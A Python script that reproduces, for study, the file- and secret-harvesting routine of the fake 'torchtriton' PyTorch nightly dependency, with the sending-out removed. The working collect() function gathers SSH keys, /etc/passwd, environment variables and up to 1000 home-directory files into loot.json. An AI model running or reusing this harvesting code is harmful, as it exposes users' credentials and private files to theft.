"""What the dependency of the PyTorch nightlies did from 25 to 30 December 2022 (the false `torchtriton` on
PyPI): when it was imported, it read the files and facts below and sent them away. This copy keeps the reading,
true to the PyTorch project's report, and leaves the sending out: everything goes to loot.json in the current
directory, where anybody can look at it.
"""
import getpass
import json
import os
import socket

MOST_FILES = 1000
LARGEST = 99_999  # bytes, the limit of the original


def collect():
    home = os.path.expanduser("~")
    loot = {
        "nameservers": _read("/etc/resolv.conf"),
        "hostname": socket.gethostname(),
        "username": getpass.getuser(),
        "cwd": os.getcwd(),
        "environment": dict(os.environ),
        "files": {},
    }
    named = ["/etc/hosts", "/etc/passwd", os.path.join(home, ".gitconfig"), *_below(os.path.join(home, ".ssh"))]
    for path in named + _below(home)[:MOST_FILES]:
        content = _read(path)
        if content is not None:
            loot["files"][path] = content
    with open("loot.json", "w") as out:
        json.dump(loot, out, indent=1)


def _below(directory):
    """All files, those that lie highest first."""
    files, level = [], [directory]
    while level and len(files) < MOST_FILES:
        deeper = []
        for folder in level:
            try:
                entries = sorted(os.scandir(folder), key=lambda entry: entry.name)
            except OSError:
                continue
            files += [entry.path for entry in entries if entry.is_file()]
            deeper += [entry.path for entry in entries if entry.is_dir(follow_symlinks=False)]
        level = deeper
    return files


def _read(path):
    try:
        if os.path.getsize(path) > LARGEST:
            return None
        with open(path, errors="replace") as file:
            return file.read()
    except OSError:
        return None
